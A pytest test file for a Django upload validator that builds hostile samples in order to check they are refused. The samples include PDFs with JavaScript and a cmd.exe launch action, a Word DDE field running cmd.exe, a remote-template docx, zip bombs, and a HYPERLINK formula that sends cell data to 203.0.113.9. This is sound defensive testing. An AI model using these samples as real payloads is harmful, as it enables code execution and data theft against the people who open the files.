"""Every upload is judged from its bytes by one validator (core.uploads), on
every path that takes files: presentations, duty reports, index evidence and
imports. A program, a page, a macro document, a zip bomb, a PDF that runs
JavaScript and a document that fetches a remote template are refused with a
Vietnamese message and nothing is stored. Bodies are bounded before they are
read, spreadsheets are read once in a bounded child process, exports never
write a formula, a NUL in a search is harmless, and a full disk leaves no
file behind."""

from __future__ import annotations

import csv
import errno
import io
import socket
import time
import zipfile
from functools import cache
from pathlib import Path
from unittest import mock

import pytest
from django.conf import settings
from django.core.files.storage import FileSystemStorage
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from agencies.models import AgencyKind, DirectoryImport
from conferences import services as conference_services
from conferences.models import Duty, DutyUpdate
from core import spreadsheets, uploads
from core.exceptions import ImportFileError, Refused
from indices import services as index_services
from indices.models import Assessment, Score
from submissions import services as submission_services
from submissions.models import Assignment, Presentation, Version

from . import presentation_files as files
from .conftest import client_for
from .factories import AgencyFactory, ConferenceFactory, InviteeLineFactory, UserFactory, future

pytestmark = pytest.mark.django_db

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# --- Files an upload must refuse, made here ---------------------------------------------------------


def _rezip(data: bytes, extra: dict[str, bytes]) -> bytes:
    """`data` (a zip) with the parts of `extra` added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename not in extra:
                target.writestr(item, source.read(item))
        for name, part in extra.items():
            target.writestr(name, part)
    return out.getvalue()


def _relationship(rel_type: str, target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rIdX" Type="{RELS}/{rel_type}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def remote_template_docx() -> bytes:
    """A Word file whose settings attach a template fetched from a server when it opens."""
    return _rezip(
        files.docx_bytes(),
        {"word/_rels/settings.xml.rels": _relationship("attachedTemplate", "http://203.0.113.9/mau.dotm")},
    )


def _js_action(script: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)})


def pdf_with(extra: dict | None = None, *, js: str = "", attachment: bool = False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if js:
        # A document-level script: the /JavaScript name tree, run when the file opens.
        names = ArrayObject([TextStringObject("chao"), writer._add_object(_js_action(js))])
        tree = DictionaryObject({NameObject("/Names"): names})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    if attachment:
        writer.add_attachment("chuong-trinh.exe", b"MZ\x90\x00")
    for key, value in (extra or {}).items():
        writer._root_object[NameObject(key)] = value
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_javascript() -> bytes:
    return pdf_with(js="app.alert('Chào');")


@cache
def zip_bomb_docx() -> bytes:
    return files.zip_bomb_docx()


def xlsx_bytes(rows=(("Mã đơn vị", "Tên đơn vị", "Loại đơn vị"), ("X-01", "UBND xã Một", "Xã"))) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@cache
def zip_bomb_xlsx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in source.infolist():
            dst.writestr(item, source.read(item))
        with dst.open("xl/media/anh.bin", "w") as part:
            for _ in range(150):
                part.write(b"\0" * (1024 * 1024))
    return out.getvalue()


def sparse_xlsx(last_cell: str) -> bytes:
    """A sheet of two cells, A1 and `last_cell`: a kilobyte that describes a huge block."""
    row = "".join(ch for ch in last_cell if ch.isdigit())
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Mã đơn vị</t></is></c></row>'
        f'<row r="{row}"><c r="{last_cell}" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'
    )
    return _rezip(xlsx_bytes(), {"xl/worksheets/sheet1.xml": sheet.encode()})


EXE = b"MZ\x90\x00" + b"\0" * 200
HTML = b"<!DOCTYPE html><html><body><script>fetch('/tai-khoan/')</script></body></html>"

# (case, file name, bytes, what the refusal says) for the document paths.
DOCUMENT_CASES = [
    ("program renamed .pdf", "bao-cao.pdf", lambda: EXE, "chương trình chạy được"),
    ("page renamed .docx", "bao-cao.docx", lambda: HTML, "không phải Word (DOCX)"),
    ("macro document renamed .docx", "bao-cao.docx", files.docm_bytes, "có chứa macro"),
    ("zip bomb", "bao-cao.docx", zip_bomb_docx, "dữ liệu nén bất thường"),
    ("PDF with JavaScript", "bao-cao.pdf", pdf_javascript, "JavaScript"),
    ("remote template", "bao-cao.docx", remote_template_docx, "địa chỉ bên ngoài tệp"),
]
# The same for the import paths, as spreadsheets.
TABLE_CASES = [
    ("program renamed .xlsx", "bang.xlsx", lambda: EXE, "chương trình chạy được"),
    ("page renamed .xlsx", "bang.xlsx", lambda: HTML, "không phải Excel (XLSX)"),
    (
        "macro workbook renamed .xlsx",
        "bang.xlsx",
        lambda: _rezip(xlsx_bytes(), {"xl/vbaProject.bin": b"\0" * 64}),
        "có chứa macro",
    ),
    ("zip bomb", "bang.xlsx", zip_bomb_xlsx, "dữ liệu nén bất thường"),
    (
        "external workbook",
        "bang.xlsx",
        lambda: _rezip(
            xlsx_bytes(),
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": _relationship(
                    "externalLinkPath", "file:///\\\\may-chu\\so-lieu.xlsx"
                )
            },
        ),
        "địa chỉ bên ngoài tệp",
    ),
]


def stored(root) -> set[str]:
    base = Path(root)
    return {str(p.relative_to(base)) for p in base.rglob("*") if p.is_file()} if base.exists() else set()


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    return tmp_path


# --- The validator itself --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("case", "data", "words"),
    [
        ("JavaScript in the names tree", pdf_javascript, "JavaScript"),
        (
            "launch action on open",
            lambda: pdf_with(
                {
                    "/OpenAction": DictionaryObject(
                        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
                    )
                }
            ),
            "lệnh tự chạy",
        ),
        ("JavaScript on open", lambda: pdf_with({"/OpenAction": _js_action("app.alert(1)")}), "JavaScript"),
        ("additional actions", lambda: pdf_with({"/AA": DictionaryObject()}), "lệnh tự chạy"),
        ("embedded file", lambda: pdf_with(attachment=True), "gắn kèm tệp khác"),
        ("rich media", lambda: pdf_with({"/RichMedia": DictionaryObject()}), "đa phương tiện"),
    ],
)
def test_pdf_that_acts_when_opened_is_refused(case, data, words):
    with pytest.raises(uploads.UploadRejected) as refused:
        uploads.inspect_upload(files.upload("a.pdf", data()), use=uploads.PRESENTATION, max_bytes=10**7)
    assert words in refused.value.messages[0]


def test_pdf_javascript_under_an_escaped_name_is_refused():
    data = pdf_javascript().replace(b"/JavaScript", b"/J#61vaScript")
    with pytest.raises(uploads.UploadRejected, match="JavaScript"):
        uploads.inspect_upload(files.upload("a.pdf", data), use=uploads.PRESENTATION, max_bytes=10**7)


def test_pdf_with_a_web_link_is_taken():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    from pypdf.annotations import Link

    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://chinhphu.vn"))
    out = io.BytesIO()
    writer.write(out)
    inspected = uploads.inspect_upload(files.upload("a.pdf", out.getvalue()), use=uploads.EVIDENCE, max_bytes=10**7)
    assert (inspected.kind, inspected.pages) == ("pdf", 1)


def test_binding_drops_what_a_stored_pdf_would_run():
    """A file stored before uploads were inspected is bound without its actions."""
    from pypdf import PdfReader
    from pypdf.annotations import Link

    source = PdfWriter()
    source.add_blank_page(width=595, height=842)
    source.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js_action("app.alert(1)")})
    source.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://chinhphu.vn"))
    script = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(9), NumberObject(9)]),
            NameObject("/A"): _js_action("app.alert(2)"),
        }
    )
    source.pages[0][NameObject("/Annots")].append(source._add_object(script))
    out = io.BytesIO()
    source.write(out)
    assert uploads.pdf_active_content(PdfReader(io.BytesIO(out.getvalue()))) == "script"
    writer = PdfWriter()
    writer.append(io.BytesIO(out.getvalue()))
    uploads.pdf_strip_actions(writer)
    bound = io.BytesIO()
    writer.write(bound)
    assert uploads.pdf_active_content(PdfReader(io.BytesIO(bound.getvalue()))) is None
    assert len(PdfReader(io.BytesIO(bound.getvalue())).pages[0]["/Annots"]) == 1  # the web link stays


def test_word_with_an_external_hyperlink_only_is_taken():
    data = _rezip(
        files.docx_bytes(),
        {
            "word/_rels/document.xml.rels": (
                '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="rId9" Type="{RELS}/hyperlink" Target="https://chinhphu.vn" '
                'TargetMode="External"/></Relationships>'
            ).encode()
        },
    )
    assert uploads.inspect_upload(files.upload("a.docx", data), use=uploads.DUTY_FILE, max_bytes=10**7).kind == "docx"


def test_word_with_a_dde_field_is_refused():
    data = _rezip(
        files.docx_bytes(),
        {
            "word/document.xml": b'<w:document xmlns:w="x"><w:body><w:p><w:r><w:instrText> DDE'
            b'</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText>'
            b"</w:r></w:p></w:body></w:document>"
        },
    )
    with pytest.raises(uploads.UploadRejected, match="có chứa macro"):
        uploads.inspect_upload(files.upload("a.docx", data), use=uploads.DUTY_FILE, max_bytes=10**7)


def test_opendocument_with_a_macro_bound_to_opening_is_refused():
    data = _rezip(
        files.odt_bytes(),
        {"content.xml": b'<office:document-content><script:event-listener script:event-name="dom:load"/>'},
    )
    with pytest.raises(uploads.UploadRejected, match="có chứa macro"):
        uploads.inspect_upload(files.upload("a.odt", data), use=uploads.PRESENTATION, max_bytes=10**7)


def test_zip_of_documents_is_taken_but_not_with_a_program_inside():
    good = io.BytesIO()
    with zipfile.ZipFile(good, "w") as archive:
        archive.writestr("Kế hoạch.pdf", files.pdf_bytes())
        archive.writestr("Ảnh/hiện trường.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 100)
    assert uploads.inspect_upload(files.upload("a.zip", good.getvalue()), use=uploads.EVIDENCE, max_bytes=10**7).kind
    bad = io.BytesIO()
    with zipfile.ZipFile(bad, "w") as archive:
        archive.writestr("Kế hoạch.pdf", files.pdf_bytes())
        archive.writestr("doc-ngay.pdf", EXE)
    with pytest.raises(uploads.UploadRejected) as refused:
        uploads.inspect_upload(files.upload("a.zip", bad.getvalue()), use=uploads.EVIDENCE, max_bytes=10**7)
    assert refused.value.messages[0].startswith("Trong tệp nén “a.zip”: Tệp “doc-ngay.pdf” là một chương trình")


# --- Presentations -------------------------------------------------------------------------------------


@pytest.fixture
def presentation(lang_son, organiser, official):
    conference = ConferenceFactory(province=lang_son, issuing_authority=organiser.agency, focal_agency=organiser.agency)
    assignment = submission_services.assignment_save(
        actor=organiser,
        assignment=Assignment(conference=conference, topic="Tham luận", agency=official.agency, due_date=future(10)),
    )
    return assignment.presentations.get()


@pytest.mark.parametrize(("case", "name", "make", "words"), DOCUMENT_CASES, ids=[c[0] for c in DOCUMENT_CASES])
def test_presentation_page_refuses_each_malicious_file(presentation, official, media, case, name, make, words):
    response = client_for(official).post(
        reverse("submissions:detail", args=[presentation.pk]), {"file": files.upload(name, make())}
    )
    assert response.status_code == 400
    assert words in response.content.decode()
    assert not Version.objects.exists() and stored(media) == set()


# --- Duty reports ------------------------------------------------------------------------------------


@pytest.fixture
def duty(lang_son, organiser):
    commune = AgencyFactory(province=lang_son, kind=AgencyKind.COMMUNE, name="UBND xã Thử")
    conference = ConferenceFactory(province=lang_son, issuing_authority=organiser.agency, focal_agency=organiser.agency)
    InviteeLineFactory(conference=conference, group_kinds=["xa"], quota=2)
    from conferences.services import conference_invite

    conference_invite(actor=organiser, conference=conference)
    duty = Duty.objects.create(conference=conference, lead_agency=commune, task="Chuẩn bị tham luận")
    conference_services.duty_sync_assignments(duty=duty)
    return duty.assignments.get()


def _report(assignment, upload):
    official = UserFactory(role="official", agency=assignment.agency, username=f"xa.{assignment.agency.pk}")
    return client_for(official).post(
        reverse("conferences:assignment", args=[assignment.pk]),
        {"status": "in_progress", "note": "Đã xây dựng dự thảo", "file": upload},
    )


@pytest.mark.parametrize(("case", "name", "make", "words"), DOCUMENT_CASES, ids=[c[0] for c in DOCUMENT_CASES])
def test_duty_report_refuses_each_malicious_file(duty, media, case, name, make, words):
    response = _report(duty, files.upload(name, make()))
    assert response.status_code == 200
    assert words in response.content.decode()
    assert not DutyUpdate.objects.exists() and stored(media) == set()


def test_duty_report_stores_a_real_file_under_the_kind_its_bytes_tell(duty, media):
    assert _report(duty, files.upload("Báo cáo.docx", files.docx_bytes())).status_code == 302
    update = DutyUpdate.objects.get()
    assert update.original_name == "Báo cáo.docx" and update.file.name.endswith(".docx")


# --- Index evidence ---------------------------------------------------------------------------------


@pytest.fixture
def scoring(lang_son, official):
    import copy

    from .test_indices_results import FRAMEWORK

    framework = index_services.framework_load(copy.deepcopy(FRAMEWORK))
    assessment = Assessment.objects.create(framework=framework, agency=official.agency)
    return assessment, framework.criteria.get(code="1.1")


def _evidence(official, scoring, upload):
    assessment, criterion = scoring
    return client_for(official).post(
        f"/chi-so/danh-gia/{assessment.pk}/tu-danh-gia/",
        {f"score-{criterion.pk}": "3", f"note-{criterion.pk}": "", f"evidence-{criterion.pk}": upload},
        follow=True,
    )


@pytest.mark.parametrize(("case", "name", "make", "words"), DOCUMENT_CASES, ids=[c[0] for c in DOCUMENT_CASES])
def test_evidence_refuses_each_malicious_file(official, scoring, media, case, name, make, words):
    response = _evidence(official, scoring, files.upload(name, make()))
    assert response.status_code == 400 and not response.redirect_chain
    assert words in response.content.decode()
    assert not Score.objects.exists() and stored(media) == set()


# --- Imports ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("case", "name", "make", "words"), TABLE_CASES, ids=[c[0] for c in TABLE_CASES])
def test_directory_import_refuses_each_malicious_file(client, organiser, media, case, name, make, words):
    client.force_login(organiser)
    response = client.post(reverse("agencies:import"), {"kind": "agencies", "file": files.upload(name, make())})
    assert response.status_code == 200
    assert words in response.context["form"].errors["file"][0]
    assert not DirectoryImport.objects.exists() and stored(media) == set()


@pytest.mark.parametrize(("case", "name", "make", "words"), TABLE_CASES, ids=[c[0] for c in TABLE_CASES])
def test_index_imports_refuse_each_malicious_file(organiser, scoring, media, case, name, make, words):
    framework = scoring[0].framework
    client = client_for(organiser)
    for url, data in (
        (f"/chi-so/bo/{framework.pk}/nhap/", {"round": "appraised"}),
        ("/chi-so/toan-quoc/nhap/", {}),
    ):
        response = client.post(url, {**data, "file": files.upload(name, make())})
        assert response.status_code == 200
        assert words in response.context["form"].errors["file"][0]
        assert not response.context["token"] and stored(media) == set()


def test_sheet_describing_billions_of_cells_is_refused_and_the_worker_lives(client, organiser, media):
    """1 kB on disk, a dense block of 17 billion cells in calamine: the child
    reading it dies at its memory bound, not the web worker."""
    client.force_login(organiser)
    started = time.monotonic()
    response = client.post(
        reverse("agencies:import"), {"kind": "agencies", "file": files.upload("bang.xlsx", sparse_xlsx("XFD1048576"))}
    )
    assert response.status_code == 200
    assert "Bảng tính quá lớn hoặc quá phức tạp để đọc" in response.context["form"].errors["file"][0]
    assert time.monotonic() - started < settings.SPREADSHEET_READ_SECONDS
    assert not DirectoryImport.objects.exists()


def test_sheet_over_the_row_bound_is_refused_with_its_size(settings):
    settings.SPREADSHEET_MAX_ROWS = 1000
    with pytest.raises(ImportFileError) as refused:
        spreadsheets.first_sheet_rows(sparse_xlsx("C5000"))
    assert "rộng 5.000 dòng × 3 cột, vượt giới hạn 1.000 dòng" in str(refused.value)


def test_csv_over_the_row_bound_is_refused(settings):
    settings.SPREADSHEET_MAX_ROWS = 10
    with pytest.raises(ImportFileError, match="Bảng tính quá lớn để đọc"):
        spreadsheets.csv_rows(("Mã,Tên\n" + "A,B\n" * 20).encode())


def test_directory_preview_and_apply_never_read_the_file_again(client, organiser, lang_son, media):
    client.force_login(organiser)
    data = xlsx_bytes(
        [("Mã đơn vị", "Tên đơn vị", "Loại đơn vị", "Hoạt động từ ngày"), ("X-01", "UBND xã Một", "Xã", "01/07/2025")]
    )
    response = client.post(reverse("agencies:import"), {"kind": "agencies", "file": files.upload("bang.xlsx", data)})
    assert response.status_code == 302
    reader = mock.Mock(side_effect=AssertionError("read again"))
    with (
        mock.patch("core.spreadsheets.first_sheet_rows", reader),
        mock.patch("core.spreadsheets.csv_rows", reader),
        mock.patch("agencies.services.table_rows", reader),
        mock.patch("agencies.importing.table_rows", reader),
    ):
        for _ in range(2):
            page = client.get(response.url)
            assert page.status_code == 200 and page.context["preview"].counts["create"] == 1
        assert client.post(response.url).status_code == 302
    assert reader.call_count == 0
    assert DirectoryImport.objects.get().status == DirectoryImport.Status.APPLIED


def test_index_import_confirmation_does_not_read_the_file_again(organiser, lang_son, media):
    from .test_indices_national import LAI_CHAU_LIKE, table

    client = client_for(organiser)
    response = client.post("/chi-so/toan-quoc/nhap/", {"file": files.upload("bang.xlsx", table(LAI_CHAU_LIKE))})
    token = response.context["token"]
    assert token
    reader = mock.Mock(side_effect=AssertionError("read again"))
    with (
        mock.patch("core.spreadsheets.first_sheet_rows", reader),
        mock.patch("indices.views.national.first_sheet_rows", reader),
        mock.patch("indices.services.imports.first_sheet_rows", reader),
    ):
        response = client.post("/chi-so/toan-quoc/nhap/", {"token": token}, follow=True)
    assert "Đã nhập bảng kết quả" in response.content.decode()
    assert reader.call_count == 0


# --- Request bodies --------------------------------------------------------------------------------------


def test_anonymous_gigabyte_post_is_refused_before_a_byte_is_read(client):
    spooled = mock.Mock(side_effect=AssertionError("spooled"))
    with mock.patch.object(TemporaryFileUploadHandler, "new_file", spooled):
        # The test client's payload asserts if more than its 20 bytes are read.
        response = client.generic(
            "POST",
            reverse("login"),
            b"--x\r\n" + b"a" * 15,
            content_type="multipart/form-data; boundary=x",
            CONTENT_LENGTH=str(1024**3),
        )
    assert response.status_code == 413
    assert "vượt quá 64,0" in response.content.decode() and "chưa có gì được ghi" in response.content.decode()
    assert spooled.call_count == 0


def test_signed_in_post_over_the_paths_limit_is_refused(official, presentation, settings):
    settings.UPLOAD_LIMITS = {**settings.UPLOAD_LIMITS, "/tham-luan/": 256}
    response = client_for(official).post(
        reverse("submissions:detail", args=[presentation.pk]), {"file": files.upload("a.pdf", files.pdf_bytes())}
    )
    assert response.status_code == 413
    assert not Version.objects.exists()


def test_streamed_file_over_the_limit_stops_the_parse(official, presentation, settings):
    """A body whose declared length passed (the middleware is not there) is
    still cut off by the upload handler as the file streams in."""
    settings.MIDDLEWARE = [m for m in settings.MIDDLEWARE if m != "core.middleware.UploadLimitMiddleware"]
    settings.UPLOAD_LIMITS = {**settings.UPLOAD_LIMITS, "/tham-luan/": 2048}
    data = files.pdf_bytes() + b"\0" * 4096
    response = client_for(official).post(
        reverse("submissions:detail", args=[presentation.pk]), {"file": files.upload("a.pdf", data)}
    )
    assert response.status_code == 400
    assert not Version.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_gigabyte_post_to_a_live_server_answers_at_once(live_server):
    host, port = live_server.thread.host, live_server.thread.port
    started = time.monotonic()
    with socket.create_connection((host, port), timeout=10) as conn:
        conn.sendall(
            b"POST /tai-khoan/dang-nhap/ HTTP/1.1\r\nHost: localhost\r\n"
            b"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 1073741824\r\n\r\n"
        )
        conn.sendall(b"--x\r\n" + b"a" * 65536)
        answer = conn.recv(4096)
    assert answer.startswith(b"HTTP/1.1 413")
    assert time.monotonic() - started < 5


# --- A full disk -----------------------------------------------------------------------------------------


def _disk_full(self, name, content):
    """FileSystemStorage._save on a full disk: the file is created, the write fails."""
    path = Path(self.path(name))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"")
    raise OSError(errno.ENOSPC, "No space left on device")


DISK_FULL = "Máy chủ đã hết chỗ lưu trữ nên chưa lưu được tệp “Báo cáo.pdf”"


def test_full_disk_during_a_duty_report_leaves_no_file_and_says_so(duty, media):
    with mock.patch.object(FileSystemStorage, "_save", _disk_full):
        response = _report(duty, files.upload("Báo cáo.pdf", files.pdf_bytes()))
    assert DISK_FULL in response.content.decode()
    assert not DutyUpdate.objects.exists() and stored(media) == set()
    duty.refresh_from_db()
    assert duty.status == "open"


def test_full_disk_during_evidence_leaves_no_file_and_says_so(official, scoring, media):
    with mock.patch.object(FileSystemStorage, "_save", _disk_full):
        response = _evidence(official, scoring, files.upload("Báo cáo.pdf", files.pdf_bytes()))
    assert DISK_FULL in response.content.decode()
    assert not Score.objects.exists() and stored(media) == set()


def test_full_disk_during_a_presentation_leaves_no_file_and_says_so(presentation, official, media):
    with mock.patch.object(FileSystemStorage, "_save", _disk_full), pytest.raises(Refused) as refused:
        submission_services.version_upload(
            actor=official, presentation=presentation, upload=files.upload("Báo cáo.pdf", files.pdf_bytes())
        )
    assert refused.value.reasons[0].startswith(DISK_FULL)
    assert not Version.objects.exists() and stored(media) == set()
    presentation.refresh_from_db()
    assert presentation.status == Presentation.Status.AWAITING


def test_full_disk_while_the_body_is_spooled_answers_with_a_page(official, presentation, settings, media):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0  # every file goes to a temporary file
    with mock.patch.object(
        TemporaryFileUploadHandler, "receive_data_chunk", side_effect=OSError(errno.ENOSPC, "No space left")
    ):
        response = client_for(official).post(
            reverse("submissions:detail", args=[presentation.pk]), {"file": files.upload("a.pdf", files.pdf_bytes())}
        )
    assert response.status_code == 507
    assert "hết chỗ lưu trữ tạm" in response.content.decode()
    assert not Version.objects.exists()


# --- Exports: text is text -----------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://203.0.113.9/?d="&A1,"Bấm vào đây")'


def test_delegate_typed_as_a_formula_is_exported_as_text(lang_son, organiser):
    commune = AgencyFactory(province=lang_son, kind=AgencyKind.COMMUNE)
    conference = ConferenceFactory(province=lang_son, issuing_authority=organiser.agency, focal_agency=organiser.agency)
    InviteeLineFactory(conference=conference, group_kinds=["xa"], quota=2)
    conference_services.conference_invite(actor=organiser, conference=conference)
    official = UserFactory(role="official", agency=commune, username="xa.formula")
    conference_services.invitation_reply(
        actor=official,
        invitation=conference.invitations.get(agency=commune),
        reply="attending",
        delegates=[{"full_name": FORMULA, "position": "@SUM(1+1)", "phone": "+84912000000", "email": ""}],
    )
    content = client_for(organiser).get(reverse("conferences:board-xlsx", args=[conference.pk])).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    assert cells[FORMULA].data_type == "s" and cells[FORMULA].value.startswith("=")


def test_every_workbook_writer_keeps_formula_text_as_text():
    data = spreadsheets.table_xlsx(title="Danh sách", header=["Tên"], rows=[[FORMULA], ["=1+1"], ["bình\x0bthường"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [(c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=2)] == [
        (FORMULA, "s"),
        ("=1+1", "s"),
        ("bìnhthường", "s"),
    ]


def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed():
    data = spreadsheets.table_csv(
        header=["Tên", "Ghi chú"], rows=[[FORMULA, "+84 912"], ["-2+3", "@SUM(A1)"], [-5, "\tx"], ["Bình", None]]
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1:] == [["'" + FORMULA, "'+84 912"], ["'-2+3", "'@SUM(A1)"], ["-5", "'\tx"], ["Bình", ""]]


# --- A NUL in a search ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/danh-ba/",
        "/danh-ba/can-bo/",
        "/hoi-nghi/",
        "/van-ban/",
        "/tham-luan/",
        "/nhat-ky/",
        "/ke-hoach/",
        "/quan-tri/agencies/agency/",
    ],
)
def test_nul_in_a_search_answers_the_page(administrator, url):
    response = client_for(administrator).get(url, {"q": "Sở\x00 Nội vụ"})
    assert response.status_code == 200
